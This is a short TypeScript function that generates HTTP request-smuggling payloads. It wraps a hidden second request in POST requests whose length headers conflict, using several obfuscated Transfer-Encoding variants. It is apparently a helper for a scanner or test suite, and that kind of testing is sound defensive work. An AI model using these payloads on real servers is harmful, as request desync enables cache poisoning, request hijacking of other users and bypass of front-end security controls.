/**
 * HTTP requests whose length can be read in two ways. Each has `hidden`, another request, in its body: a server that
 * trusts the other header instead of Content-Length takes it for the next request.
 *
 * @param headers of the requests around it, each with its line end.
 */
export function disguises(hidden: string, headers: string): string[] {
  const body = `0\r\n\r\n${hidden}`;
  return [
    'Transfer-Encoding: chunked',
    'Transfer-Encoding: xchunked',
    'Transfer-Encoding : chunked',
    'Transfer-Encoding:\tchunked',
    'X: y\nTransfer-Encoding: chunked',
    'Content-Length: 5',
  ].map(
    (other) => `POST /task HTTP/1.1\r\n${headers}Content-Length: ${body.length}\r\n${other}\r\n\r\n${body}`,
  );
}
